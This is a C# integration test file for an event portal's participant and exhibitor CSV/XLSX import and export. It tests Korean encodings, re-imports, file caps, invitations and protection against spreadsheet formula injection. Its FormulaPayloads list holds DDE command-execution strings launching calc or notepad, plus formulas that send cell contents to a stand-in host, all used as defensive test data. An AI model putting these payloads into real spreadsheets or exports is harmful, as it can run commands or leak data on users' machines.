using System.IO.Compression;
using System.Net;
using System.Text;
using ExpoPortal.Application.Common;
using ExpoPortal.Application.DataExchange;
using ExpoPortal.Domain.Notifications;
using ExpoPortal.Infrastructure.Identity;
using Microsoft.AspNetCore.Identity;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using static ExpoPortal.IntegrationTests.DataExchange.ImportTestFiles;

namespace ExpoPortal.IntegrationTests.DataExchange;

/// <summary>Encodings, re-imports, exports read back by a second library, formula injection, caps and sign-ins for imported people.</summary>
public sealed class ImportExportTests(DemoAppFixture fixture) : IClassFixture<DemoAppFixture>
{
    private CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_CP949_list_from_Korean_Excel_imports_its_Korean_text()
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");
        var file = Cp949("이메일,이름,회사명,국가,구분,지회,도시,언어,관심품목,수입규모,도착일,출발일",
            "cp949@test.example,김철수,철수무역,베트남,회원,호치민,호치민,한국어;베트남어,0902;330499,대규모,2027-05-18,2027-05-21");

        var counts = await CountsAsync(await ImportAsync(client, "participants", file, "지회명단.csv", false, Ct), Ct);

        Assert.Equal((1, 0, 0), counts);
        var participant = await ParticipantAsync("cp949@test.example");
        Assert.Equal(("김철수", "철수무역", "VN", "호치민"), (participant.FullName, participant.Company, participant.CountryCode, participant.City));
        Assert.Equal(["ko", "vi"], participant.Languages);
        Assert.Equal(["0902", "330499"], participant.HsInterests);
    }

    [Fact]
    public async Task A_UTF8_list_with_a_BOM_imports_and_the_BOM_is_not_part_of_the_first_header()
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");

        var counts = await CountsAsync(await ImportAsync(client, "participants",
            Utf8Bom(ParticipantHeader, Participant("bom@test.example", name: "Ana Souza", company: "Souza Ltda", country: "Brazil")), "list.csv", false, Ct), Ct);

        Assert.Equal((1, 0, 0), counts);
        Assert.Equal("BR", (await ParticipantAsync("bom@test.example")).CountryCode);
    }

    [Fact]
    public async Task Importing_the_same_list_again_creates_nothing_and_a_changed_row_is_updated()
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");
        string[] rows = [ParticipantHeader, Participant("again1@test.example"), Participant("again2@test.example", kind: "member", chapter: "LA")];
        var dry = await CountsAsync(await ImportAsync(client, "participants", Utf8(rows), "a.csv", true, Ct), Ct);
        Assert.Null(await ParticipantOrNullAsync("again1@test.example"));

        var first = await CountsAsync(await ImportAsync(client, "participants", Utf8(rows), "a.csv", false, Ct), Ct);
        var second = await CountsAsync(await ImportAsync(client, "participants", Utf8(rows), "a.csv", false, Ct), Ct);
        rows[2] = Participant("again2@test.example", kind: "member", chapter: "LA", city: "San Diego");
        var third = await CountsAsync(await ImportAsync(client, "participants", Utf8(rows), "a.csv", false, Ct), Ct);

        Assert.Equal((2, 0, 0), dry);
        Assert.Equal((2, 0, 0), first);
        Assert.Equal((0, 0, 2), second);
        Assert.Equal((0, 1, 1), third);
        Assert.Equal("San Diego", (await ParticipantAsync("again2@test.example")).City);
        await using var db = await DbAsync();
        Assert.Equal(1, await db.Participants.CountAsync(p => p.Email == "again2@test.example", Ct));
    }

    [Fact]
    public async Task Exhibitors_are_found_again_by_business_number_or_else_by_email()
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");
        var first = await CountsAsync(await ImportAsync(client, "exhibitors", Utf8(ExhibitorHeader,
            Exhibitor("444-44-44444", "brn@test.example"), Exhibitor("", "noBrn@test.example", nameKo: "번호없음")), "x.csv", false, Ct), Ct);

        var second = await CountsAsync(await ImportAsync(client, "exhibitors", Utf8(ExhibitorHeader,
            Exhibitor("4444444444", "changed@test.example", nameEn: "Renamed Foods"), Exhibitor("", "nobrn@test.example", nameKo: "번호없음",
                products: "090210:녹차/Green tea")), "x.csv", false, Ct), Ct);

        Assert.Equal((2, 0, 0), first);
        Assert.Equal((0, 2, 0), second);
        await using var db = await DbAsync();
        var renamed = await db.Exhibitors.SingleAsync(x => x.BusinessNumber == "4444444444", Ct);
        Assert.Equal(("Renamed Foods", "changed@test.example"), (renamed.Name.En, renamed.Contact.Email));
        var noNumber = await db.Exhibitors.SingleAsync(x => x.Contact.Email == "nobrn@test.example", Ct);
        Assert.Equal(["090210"], noNumber.Products.Select(p => p.HsCode));
    }

    [Fact]
    public async Task An_xlsx_export_read_by_a_second_library_and_imported_again_changes_nothing()
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");
        await CountsAsync(await ImportAsync(client, "exhibitors", Utf8(ExhibitorHeader,
            Exhibitor("555-55-55555", "roundtrip@test.example", nameKo: "왕복식품", products: "220890:안동소주/Andong soju;121120:인삼/Ginseng")), "x.csv", false, Ct), Ct);

        var xlsx = await client.GetByteArrayAsync($"{Api}/exports/exhibitors.xlsx", Ct);
        var rows = ReadXlsx(xlsx);
        var header = rows[0];
        var row = rows.Single(r => r[Array.IndexOf(header, "email")] == "roundtrip@test.example");
        Assert.Equal("555-55-55555", row[Array.IndexOf(header, "business_number")]);
        Assert.Equal("왕복식품", row[Array.IndexOf(header, "name_ko")]);
        Assert.Equal("KR-47", row[Array.IndexOf(header, "region")]);
        Assert.Equal("220890:안동소주/Andong soju;121120:인삼/Ginseng", row[Array.IndexOf(header, "products")]);

        var again = await CountsAsync(await ImportAsync(client, "exhibitors", xlsx, "exhibitors.xlsx", false, Ct), Ct);
        var csv = await client.GetByteArrayAsync($"{Api}/exports/exhibitors.csv", Ct);
        var againCsv = await CountsAsync(await ImportAsync(client, "exhibitors", csv, "exhibitors.csv", true, Ct), Ct);

        Assert.Equal(0, again.Created + again.Updated);
        Assert.Equal(0, againCsv.Created + againCsv.Updated);
        Assert.True(again.Unchanged >= 250);
    }

    [Fact]
    public async Task An_xlsx_list_imports_and_the_participant_export_round_trips_as_csv_with_a_BOM()
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");
        var xlsx = SpreadsheetWriter.Xlsx("list", ParticipantHeader.Split(','),
            [Participant("xlsx@test.example", name: "Li Wei", company: "Wei Trading", country: "CN", languages: "zh;en").Split(',')]);
        Assert.Equal((1, 0, 0), await CountsAsync(await ImportAsync(client, "participants", xlsx, "list.xlsx", false, Ct), Ct));

        var csv = await client.GetByteArrayAsync($"{Api}/exports/participants.csv", Ct);

        Assert.Equal([0xEF, 0xBB, 0xBF], csv[..3]);
        Assert.Contains("xlsx@test.example,Li Wei,Wei Trading,CN,buyer,,Los Angeles,zh;en,0902,medium,2027-05-18,2027-05-22", Encoding.UTF8.GetString(csv));
        var counts = await CountsAsync(await ImportAsync(client, "participants", Utf8(ParticipantHeader,
            Participant("xlsx@test.example", name: "Li Wei", company: "Wei Trading", country: "CN", languages: "zh;en")), "again.csv", true, Ct), Ct);
        Assert.Equal((0, 0, 1), counts);
    }

    public static readonly string[] FormulaPayloads =
    [
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://x.example\",\"click\")",
        "=IMPORTXML(CONCAT(\"http://x.example/?\",A1),\"//a\")", "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "=A1&A2", "=WEBSERVICE(\"http://x.example\")", "+A1", "-A1", "@A1",
        "=1/0", "=INDIRECT(\"A1\")",
    ];

    [Fact]
    public void Twenty_formula_payloads_are_written_so_that_no_spreadsheet_evaluates_them()
    {
        var rows = FormulaPayloads.Select(p => (IReadOnlyList<string>)[p, "plain"]).ToList();

        var csv = Encoding.UTF8.GetString(SpreadsheetWriter.Csv(["value", "other"], rows));
        var xlsx = SpreadsheetWriter.Xlsx("s", ["value", "other"], rows);

        Assert.Equal(20, FormulaPayloads.Length);
        foreach (var payload in FormulaPayloads)
        {
            Assert.Contains(Quote("'" + payload), csv);
            Assert.DoesNotContain("\r\n" + Quote(payload) + ",", csv);
        }
        // In the workbook every payload is a text cell with Excel's quote prefix, never a formula...
        using var zip = new ZipArchive(new MemoryStream(xlsx));
        var sheetXml = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open()).ReadToEnd();
        Assert.DoesNotContain("<f>", sheetXml);
        Assert.DoesNotContain("<x:f>", sheetXml);
        var stylesXml = new StreamReader(zip.GetEntry("xl/styles.xml")!.Open()).ReadToEnd();
        Assert.Contains("quotePrefix=\"1\"", stylesXml);
        // ...and a second library reads back the very text (XML itself reads a raw carriage return as a line feed).
        var read = ImportTestFiles.ReadXlsx(xlsx);
        Assert.Equal(FormulaPayloads.Select(p => p.Replace('\r', '\n')), read.Skip(1).Select(r => r[0].Replace('\r', '\n')).ToArray());
    }

    [Fact]
    public async Task Exported_cells_that_start_like_formulas_are_neutralised_and_import_back_unchanged()
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");
        await CountsAsync(await ImportAsync(client, "participants",
            Utf8(ParticipantHeader, Participant("formula@test.example", name: "=HYPERLINK(\"http://x.example\")", company: "@SUM(1)")), "f.csv", false, Ct), Ct);

        var csv = await client.GetByteArrayAsync($"{Api}/exports/participants.csv", Ct);
        var text = Encoding.UTF8.GetString(csv);

        Assert.Contains("formula@test.example,\"'=HYPERLINK(\"\"http://x.example\"\")\",'@SUM(1)", text);
        // The demo's own participants have no address to import by, so only the imported row goes back in.
        var lines = text.Split("\r\n");
        var again = await CountsAsync(await ImportAsync(client, "participants", Utf8Bom(lines[0].TrimStart('\uFEFF'), lines.Single(l => l.StartsWith("formula@"))), "participants.csv", true, Ct), Ct);
        Assert.Equal((0, 0, 1), again);
    }

    public static TheoryData<string, byte[], string> RefusedFiles => new()
    {
        { "big.csv", Utf8(ParticipantHeader + "," + new string('x', SpreadsheetReader.MaxBytes)), "file_too_large" },
        { "many.csv", Utf8([ParticipantHeader, .. Enumerable.Range(0, SpreadsheetReader.MaxRows + 1).Select(i => Participant($"r{i}@test.example"))]), "too_many_rows" },
        { "fake.xlsx", Utf8(ParticipantHeader, Participant("fake@test.example")), "not_xlsx" },
        { "zip.xlsx", ZipWithout("xl/workbook.xml"), "not_xlsx" },
        { "workbook.csv", SpreadsheetWriter.Xlsx("s", ["email"], [["a@test.example"]]), "not_csv" },
        { "binary.csv", [0x00, 0x01, 0x02, 0x03, 0xFF, 0x00, 0x10, 0x00], "not_csv" },
        { "list.pdf", Utf8(ParticipantHeader), "unsupported_file_type" },
        { "empty.csv", [], "empty_file" },
    };

    [Theory]
    [MemberData(nameof(RefusedFiles))]
    public async Task A_file_over_the_caps_or_not_what_it_claims_is_refused_with_a_clear_code(string fileName, byte[] content, string code)
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");

        var response = await ImportAsync(client, "participants", content, fileName, false, Ct);

        var problem = Assert.Single(await ErrorsAsync(response, Ct));
        Assert.Equal((0, code), (problem.Row, problem.Code));
        Assert.False(string.IsNullOrWhiteSpace(problem.Message));
    }

    [Fact]
    public async Task Imported_people_get_a_sign_in_and_an_invitation_whose_link_sets_the_password()
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");
        await CountsAsync(await ImportAsync(client, "participants", Utf8(ParticipantHeader, Participant("invited@test.example", name: "Invited Buyer")), "i.csv", false, Ct), Ct);
        var participant = await ParticipantAsync("invited@test.example");
        await using var db = await DbAsync();
        var invitation = await db.Notifications.SingleAsync(n => n.ParticipantId == participant.Id && n.Kind == NotificationKind.AccountInvitation, Ct);
        var query = System.Web.HttpUtility.ParseQueryString(new Uri("http://x/" + invitation.Link).Query);

        using var anonymous = fixture.App.CreateBrowserlessClient();
        var page = await anonymous.GetStringAsync("/" + invitation.Link, Ct);
        var posted = await anonymous.PostAsync("/" + invitation.Link, new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["_handler"] = "set-password",
            ["__RequestVerificationToken"] = Tests.Shared.ExpoApp.AntiforgeryTokenIn(page),
            ["Input.Password"] = "Invited-2027!",
            ["Input.Confirm"] = "Invited-2027!",
        }), Ct);

        Assert.Equal("invited@test.example", query["email"]);
        Assert.Contains("set-password-done", await posted.Content.ReadAsStringAsync(Ct));
        using var buyer = await fixture.App.SignInAsync("invited@test.example", "Invited-2027!");
        Assert.Equal(HttpStatusCode.OK, (await buyer.GetAsync($"/api/events/{Infrastructure.DemoData.AndongDemo.Slug}/participants/{participant.Id}/agenda", Ct)).StatusCode);
        var users = fixture.App.Services.CreateScope().ServiceProvider.GetRequiredService<UserManager<ApplicationUser>>();
        Assert.True(await users.IsInRoleAsync((await users.FindByEmailAsync("invited@test.example"))!, Roles.Participant));
    }

    [Fact]
    public async Task The_meeting_schedule_exports_all_and_per_side_and_another_events_id_is_404()
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");
        await using var db = await DbAsync();
        var exhibitorId = await db.Exhibitors.Select(x => x.Id).FirstAsync(Ct);

        var all = ReadXlsx(await client.GetByteArrayAsync($"{Api}/exports/meetings.xlsx", Ct));
        var one = Encoding.UTF8.GetString(await client.GetByteArrayAsync($"{Api}/exports/meetings.csv?exhibitorId={exhibitorId}", Ct));
        var missing = await client.GetAsync($"{Api}/exports/meetings.csv?participantId=999999", Ct);

        Assert.Equal(DataExports.MeetingHeaders, all[0]);
        Assert.StartsWith("\uFEFFdate,start,end", one);
        Assert.Equal(HttpStatusCode.NotFound, missing.StatusCode);
    }

    [Fact]
    public async Task Templates_hold_the_canonical_headers_in_both_formats()
    {
        using var client = await fixture.App.SignInAsync("organizer@expo.demo");

        var csv = Encoding.UTF8.GetString(await client.GetByteArrayAsync($"{Api}/imports/participants/template.csv", Ct));
        var xlsx = ReadXlsx(await client.GetByteArrayAsync($"{Api}/imports/exhibitors/template.xlsx", Ct));
        var templateImport = await CountsAsync(await ImportAsync(client, "exhibitors",
            await client.GetByteArrayAsync($"{Api}/imports/exhibitors/template.xlsx", Ct), "template.xlsx", true, Ct), Ct);

        Assert.StartsWith("\uFEFF" + ParticipantHeader + "\r\n", csv);
        Assert.Equal(ExhibitorHeader.Split(','), xlsx[0]);
        Assert.Equal(1, templateImport.Created);
    }

    private static byte[] ZipWithout(string part)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, true))
            using (var w = new StreamWriter(zip.CreateEntry("[Content_Types].xml").Open())) w.Write("<Types/>");
        return buffer.ToArray();
    }

    private async Task<IAppDbContext> DbAsync() => await fixture.App.Services.GetRequiredService<IAppDbContextFactory>().CreateAsync(Ct);

    private async Task<Domain.Participants.Participant?> ParticipantOrNullAsync(string email)
    {
        await using var db = await DbAsync();
        return await db.Participants.AsNoTracking().SingleOrDefaultAsync(p => p.Email == email, Ct);
    }

    private async Task<Domain.Participants.Participant> ParticipantAsync(string email) =>
        await ParticipantOrNullAsync(email) ?? throw new InvalidOperationException($"No participant {email}.");
}
